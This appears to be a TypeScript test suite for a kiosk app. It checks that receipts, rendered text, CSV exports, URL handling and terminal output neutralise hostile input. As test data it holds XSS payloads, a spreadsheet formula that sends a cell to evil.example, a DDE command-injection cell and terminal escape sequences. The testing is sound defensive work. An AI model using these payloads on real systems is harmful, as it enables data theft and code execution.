import fs from 'node:fs';
import path from 'node:path';
import { chromium, type Browser } from '@playwright/test';
import i18next, { type i18n } from 'i18next';
import { createElement, type ReactElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { I18nextProvider } from 'react-i18next';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runAdmin } from '../../electron/admin/adminCli';
import { hostOf } from '../../electron/api/officialSites';
import { chromiumArgs, findChromium } from '../../electron/bridge/chromium';
import { SiteVisit } from '../../electron/platform/platform';
import { spreadsheetSafe, toCsv } from '../../electron/services/csvTable';
import { createKioskServices } from '../../electron/services/kioskServices';
import { setLogSink } from '../../electron/services/log';
import { requiredWordKeys } from '../../electron/services/flows/flowSchema';
import type { ExemptionReceipt } from '../../electron/services/receipt/receiptData';
import { receiptHtml } from '../../electron/services/receipt/receiptHtml';
import type { ReceiptWords, Words } from '../../electron/services/receipt/receiptWords';
import { withLanguagePreload } from '../../electron/window/languagePreload';
import type { FlowAnswers } from '../../renderer/src/flows/flowPath';
import type { StepErrors } from '../../renderer/src/flows/FlowScreen';
import { StepContent } from '../../renderer/src/flows/StepContent';
import { initI18n } from '../../renderer/src/i18n/i18n';
import { staffI18n } from '../../renderer/src/staff/staffI18n';
import { allHostile, everyStepKindFlow, hostile, injectedMarkup } from '../helpers/hostileContent';
import { freshDataDir, repoRoot, resourcesDir } from '../helpers/kioskFixture';
import { signaturePng } from '../helpers/signaturePng';

/**
 * Hostile content in every place text from a file, the config or a person is turned into a
 * document: it is shown as the text it is, never made markup or run (issue 7). The renderer's
 * share runs through React here, with i18next set up as the kiosk sets it up (escapeValue off,
 * because React escapes); the end-to-end half is tests/e2e/hostileContent.spec.ts. Each document
 * is also opened in real Chromium with script on and no Content-Security-Policy, so a payload
 * that became markup would run and be caught, not merely look wrong in a string.
 */

const readJson = (...parts: string[]) =>
  JSON.parse(fs.readFileSync(path.join(repoRoot, 'locales', ...parts), 'utf8')) as Words;

/** Every text in a words file followed by a payload; placeholders stay, so they still get values. */
function poisoned(words: Words, payload: string): Words {
  return Object.fromEntries(
    Object.entries(words).map(([key, value]) => [
      key,
      typeof value === 'string' ? `${value} ${payload}` : poisoned(value as Words, payload),
    ]),
  );
}

/**
 * The markup payloads alone, for the interface's own words: i18next reads those as templates on
 * purpose (a translator's {{placeholder}} and $t(nesting) are features), so only values must not be.
 */
const markupHostile = [hostile.img, hostile.script, hostile.svg, hostile.rtl].join(' ');

/** Every dotted key of a words file with its text. */
function leaves(words: Words, prefix = ''): [string, string][] {
  return Object.entries(words).flatMap(([key, value]) =>
    typeof value === 'string' ? [[`${prefix}${key}`, value]] : leaves(value as Words, `${prefix}${key}.`),
  );
}

let browser: Browser;
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: findChromium(), args: chromiumArgs });
}, 60_000);
afterAll(async () => {
  await browser?.close();
});

/**
 * Opens a document in Chromium with script allowed and waits for it (images failing included),
 * then reports what the payloads would have left: injected elements, and window.__pwned.
 */
async function openInChromium(html: string) {
  const page = await browser.newPage();
  try {
    await page.setContent(html, { waitUntil: 'load' });
    // An image's error event and a handler's effects land after load at the latest; give them a turn.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
    const injected = await page.evaluate(injectedMarkup);
    const text = await page.evaluate(() => document.documentElement.textContent ?? '');
    const unisolated = await page.evaluate(() => {
      // Text holding a right-to-left override that is not inside an isolating element of its own.
      const found: string[] = [];
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        if (!node.textContent?.includes('\u202E')) continue;
        if (!node.parentElement?.closest('bdi, span[dir]')) found.push(node.textContent.slice(0, 60));
      }
      return found;
    });
    return { ...injected, text, unisolated };
  } finally {
    await page.close();
  }
}

describe('the exemption receipt (HTML printed and made into PDFs)', () => {
  // The signature only has to be a PNG.
  const png = signaturePng();

  /** Every text a person or the config puts on the receipt, each a different payload plus {{name}}. */
  const values = {
    reference: `DP-${hostile.script}`,
    centreName: `Centre ${hostile.img} ${hostile.rtl}`,
    name: `Name ${hostile.svg} {{name}} ${hostile.rtl}`,
    address: `Street ${hostile.script}\n${hostile.img} ${hostile.rtl}`,
    representative: `Rep ${hostile.img} {{name}} ${hostile.rtl}`,
    relation: `Relation ${hostile.template} ${hostile.rtl}`,
    staffName: `Staff ${hostile.svg} ${hostile.rtl}`,
    idDocumentOther: `Card ${hostile.script} ${hostile.rtl}`,
  };
  const receipt: ExemptionReceipt = {
    reference: values.reference,
    kind: 'exemption',
    requestedAt: Date.UTC(2026, 10, 24, 9, 30),
    centreName: values.centreName,
    applicant: 'representative',
    representative: { name: values.representative, relation: values.relation },
    citizen: { name: values.name, cpr: '0102031234', address: values.address },
    grounds: [1, 8],
    signature: { kind: 'screen', png },
    verification: {
      staffName: values.staffName,
      idDocument: 'other',
      idDocumentOther: values.idDocumentOther,
      powerOfAttorneySeen: true,
    },
    language: 'ar',
  };
  const realWords: ReceiptWords = {
    da: readJson('da', 'exemption-receipt.json'),
    citizen: { language: 'ar', dir: 'rtl', words: readJson('en', 'exemption-receipt.json') },
  };
  const hostileWords: ReceiptWords = {
    da: poisoned(realWords.da, allHostile),
    citizen: { ...realWords.citizen!, words: poisoned(realWords.citizen!.words, allHostile) },
  };
  const withoutPolicy = (html: string) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

  it('builds the document from its own tags only, whatever the values and the words hold', () => {
    const html = receiptHtml(receipt, hostileWords);
    const tags = new Set([...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase()));
    const own = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'section', 'p', 'h1', 'h2']);
    for (const tag of ['table', 'tr', 'th', 'td', 'bdi', 'span', 'ul', 'li', 'div', 'img']) own.add(tag);
    expect([...tags].filter((tag) => !own.has(tag))).toEqual([]);
    // The signature, once in each copy, is the only image.
    expect(html.match(/<img\b/g)).toHaveLength(2);
    // A value's {{name}} is not filled in a second time: it stays as typed.
    expect(html).toContain('{{name}}');
  });

  it('shows every value and word as text in Chromium, with script on and its CSP removed', async () => {
    const seen = await openInChromium(withoutPolicy(receiptHtml(receipt, hostileWords)));
    expect(seen.elements).toEqual([]);
    expect(seen.pwned).toBeUndefined();
    for (const value of Object.values(values)) {
      for (const line of value.split('\n')) expect(seen.text).toContain(line);
    }
    // The words' payloads, in the Danish copy and in the citizen's. A {{placeholder}} in the words
    // is the translator's and is filled (here with nothing, as no value has that name).
    const wordsPayload = allHostile.replace('{{centreName}}', '');
    expect(seen.text).toContain(`${String(realWords.da.privacy)} ${wordsPayload}`);
    expect(seen.text).toContain(`${String(realWords.citizen!.words.privacy)} ${wordsPayload}`);
  });

  it("keeps a value's right-to-left override inside the value (each is isolated)", async () => {
    const seen = await openInChromium(withoutPolicy(receiptHtml(receipt, realWords)));
    expect(seen.text).toContain(hostile.rtl);
    expect(seen.unisolated).toEqual([]);
  });

  it('makes the caseworker export the same way, signed on paper or on screen', async () => {
    const onPaper = receiptHtml({ ...receipt, signature: { kind: 'paper' }, language: 'da' }, { da: hostileWords.da });
    expect(onPaper).not.toMatch(/<img\b/);
    const seen = await openInChromium(withoutPolicy(onPaper));
    expect(seen.elements).toEqual([]);
    expect(seen.pwned).toBeUndefined();
    expect(seen.text).toContain(values.representative);
  });
});

describe("the renderer's text, through the kiosk's own i18next and React", () => {
  let kioskWords: i18n;
  let staffWords: i18n;
  beforeAll(async () => {
    // The citizen's i18next and the staff area's, set up by the kiosk's own code (escapeValue off,
    // because React escapes). Setting up marks the language on <html>, which Node has not got.
    vi.stubGlobal('document', { documentElement: {} });
    await initI18n('da');
    await i18next.loadNamespaces('exemption');
    kioskWords = i18next;
    staffWords = await staffI18n();
  });
  afterAll(() => {
    vi.unstubAllGlobals();
  });

  const namespaces = {
    kiosk: readJson('da', 'kiosk.json'),
    exemption: readJson('da', 'exemption.json'),
    staff: readJson('staff', 'da', 'staff.json'),
    dashboard: readJson('staff', 'da', 'dashboard.json'),
  };

  it('fills every placeholder of every interface text with the value as it is: no second interpolation, no nesting', async () => {
    const filled: string[] = [];
    for (const [ns, words] of Object.entries(namespaces)) {
      const t = ns === 'staff' || ns === 'dashboard' ? staffWords.t : kioskWords.t;
      for (const [leaf, text] of leaves(words)) {
        const plural = /_(zero|one|two|few|many|other)$/.exec(leaf);
        if (plural && plural[1] !== 'other') continue;
        const key = plural ? leaf.slice(0, -plural[0].length) : leaf;
        const names = [...text.matchAll(/\{\{\s*(\w+)\s*\}\}/g)].map((m) => m[1]!).filter((n) => n !== 'count');
        if (names.length === 0) continue;
        const options = Object.fromEntries(names.map((name) => [name, `${name}=${allHostile}`]));
        const result = t(key, { ns, ...options, ...(plural ? { count: 7 } : {}) });
        for (const name of names) expect(result, `${ns}:${key}`).toContain(`${name}=${allHostile}`);
        // The nested key in the payload was not looked up.
        expect(result).not.toContain(String((namespaces.kiosk.welcome as Words).intro));
        filled.push(renderToStaticMarkup(createElement('p', { 'data-key': `${ns}:${key}` }, result)));
      }
    }
    expect(filled.length).toBeGreaterThan(40);
    const seen = await openInChromium(`<!doctype html><body>${filled.join('\n')}</body>`);
    expect(seen.elements).toEqual([]);
    expect(seen.pwned).toBeUndefined();
    expect(seen.text).toContain(allHostile);
  });

  describe("a flow's steps, with hostile flow words, hostile interface words and a hostile answer", () => {
    const flow = everyStepKindFlow;
    // Flow words are not i18next's: they come from the services as JSON and are looked up as they are.
    const flowWords = new Map<string, string>(requiredWordKeys(flow).map((key) => [key, `${key} ${allHostile}`]));
    flowWords.set('steps.details.fields.name.hint', `hint ${allHostile}`);
    flowWords.set('steps.intro.body', `first ${allHostile}\n\nsecond ${allHostile}`);
    const words = (key: string) => flowWords.get(key) ?? key;
    const answers: FlowAnswers = { ask: { choice: 'no' }, details: { name: `typed ${allHostile}`, kind: 'two' } };
    const errors: StepErrors = { name: { key: 'tooLong', params: { max: allHostile } }, kind: { key: 'choose' } };
    // The kiosk's i18next with its own words poisoned too, in a copy of its store.
    const render = (element: ReactElement) => {
      const hostileI18n = kioskWords.cloneInstance({ forkResourceStore: true });
      hostileI18n.addResourceBundle('da', 'kiosk', poisoned(namespaces.kiosk, markupHostile), true, true);
      return renderToStaticMarkup(createElement(I18nextProvider, { i18n: hostileI18n }, element));
    };
    const tooLong = String((namespaces.kiosk.flow as { errors: Words }).errors.tooLong);

    it.each(flow.steps.map((step) => [step.kind, step.id]))('%s step (%s)', async (_kind, stepId) => {
      const step = flow.steps.find((s) => s.id === stepId)!;
      const markup = render(
        createElement(StepContent, {
          flow,
          step,
          words,
          answers,
          history: ['intro', 'things', 'ask', 'details'],
          errors: step.kind === 'form' ? errors : {},
          onAnswer: () => undefined,
          onChange: () => undefined,
        }),
      );
      const seen = await openInChromium(`<!doctype html><body>${markup}</body>`);
      expect(seen.elements).toEqual([]);
      expect(seen.pwned).toBeUndefined();
      if (step.id === 'intro') {
        expect(seen.text).toContain(`first ${allHostile}`);
        expect(seen.text).toContain(`second ${allHostile}`);
      } else {
        expect(seen.text).toContain(`steps.${step.id}.title ${allHostile}`);
      }
      if (step.kind === 'checklist') expect(seen.text).toContain(`steps.things.items.second ${allHostile}`);
      if (step.kind === 'choice') expect(seen.text).toContain(`steps.ask.options.no ${allHostile}`);
      if (step.kind === 'form') {
        expect(seen.text).toContain(`steps.details.fields.name.label ${allHostile}`);
        expect(seen.text).toContain(`hint ${allHostile}`);
        expect(seen.text).toContain(`steps.details.fields.kind.options.one ${allHostile}`);
        expect(seen.text).toContain(tooLong.replace('{{max}}', () => allHostile));
      }
      // The interface's own words on the step (a label, yes and no, "change"), poisoned too, are text as well.
      if (['checklist', 'form', 'check', 'site'].includes(step.kind)) expect(seen.text).toContain(markupHostile);
      if (step.kind === 'check') {
        expect(seen.text).toContain(`steps.ask.options.no ${allHostile}`);
        expect(seen.text).toContain(`typed ${allHostile}`);
        expect(seen.text).toContain(`steps.details.fields.kind.options.two ${allHostile}`);
      }
    });
  });
});

describe('spreadsheet exports (the caseworker CSV, the admin command line)', () => {
  /** The one cell of a one-column, one-row table, as a spreadsheet reads it back. */
  const cellOf = (value: string) => {
    const csv = toCsv({ header: ['cell'], rows: [[value]] }).replace(/^\uFEFF/, '');
    const line = csv.slice(csv.indexOf('\n') + 1).replace(/\n$/, '');
    return line.startsWith('"') ? line.slice(1, -1).replace(/""/g, '"') : line;
  };

  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    '+1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
  ])('makes %j text, not a formula', (value) => {
    expect(cellOf(value)).toBe(`'${value}`);
    expect(spreadsheetSafe(value)).toBe(`'${value}`);
  });

  it.each([allHostile, 'Anna "Bo", 2. th.\nVejle', hostile.rtl])('keeps %j as it is', (value) => {
    expect(cellOf(value)).toBe(value);
  });
});

describe('the refusal of an official-site address names its host only', () => {
  it.each([
    ['https://evil.example/"><img src=x onerror="window.__pwned=1">', 'evil.example'],
    ['https://evil.example/?q=<script>window.__pwned=1</script>', 'evil.example'],
    ['https://<img src=x>.example/', ''],
    ['https://evil\u202Eexe.example/', ''],
    ['javascript:window.__pwned=1', ''],
  ])('%j → %j', (url, host) => {
    expect(hostOf(url)).toBe(host);
    const visit = new SiteVisit(['borger.dk']);
    visit.open('https://www.borger.dk/');
    expect(visit.check('frame-navigation', url)).toBe(false);
    expect(visit.status()).toEqual({ state: 'blocked', host, refusal: 'address' });
  });
});

describe("the page's language hint (written into index.html by the page server)", () => {
  const page = '<!doctype html><html><head><meta charset="utf-8" />\n</head><body></body></html>';
  const rendererWith = (file: string, language = 'da') => {
    const dir = freshDataDir('hostile-renderer-');
    fs.mkdirSync(path.join(dir, '.vite'));
    fs.writeFileSync(
      path.join(dir, '.vite', 'manifest.json'),
      JSON.stringify({ x: { file, src: `locales/${language}/kiosk.json` } }),
    );
    return dir;
  };

  it('adds a chunk with a plain file name, and nothing when the name could break out of the attribute', () => {
    expect(withLanguagePreload(page, rendererWith('assets/kiosk-da.js'), 'da')).toContain(
      '<link rel="modulepreload" crossorigin href="./assets/kiosk-da.js" />',
    );
    for (const file of [`a.js" onload="window.__pwned=1`, `a.js">${hostile.script}`, 'a.js\u202E']) {
      expect(withLanguagePreload(page, rendererWith(file), 'da')).toBe(page);
    }
    expect(withLanguagePreload(page, rendererWith('a.js', 'da'), `da${hostile.svg}`)).toBe(page);
  });
});

describe("the admin command line's staff list, at a terminal", () => {
  it('writes control characters in a staff name as escapes, so the terminal does not obey them', async () => {
    setLogSink(() => {});
    const dataDir = freshDataDir('hostile-admin-');
    // Clear the screen, set the clipboard (OSC 52), and a C1 control sequence introducer.
    const name = `Mette\u001b[2J\u001b]52;c;ZXZpbA==\u0007\u009b31m ${hostile.img}`;
    const services = createKioskServices({ dataDir, resourcesDir, env: {} });
    services.staff.createFirstAdmin(name, '482913');
    services.close();
    const out: string[] = [];
    const code = await runAdmin(['--data-dir', dataDir, 'staff', 'list'], {
      out: (line) => out.push(line),
      err: (line) => out.push(line),
      readLine: () => Promise.resolve(''),
      env: {},
    });
    expect(code).toBe(0);
    expect(out).toEqual([`1\tadmin\tactive\tMette\\u001b[2J\\u001b]52;c;ZXZpbA==\\u0007\\u009b31m ${hostile.img}`]);
  });
});
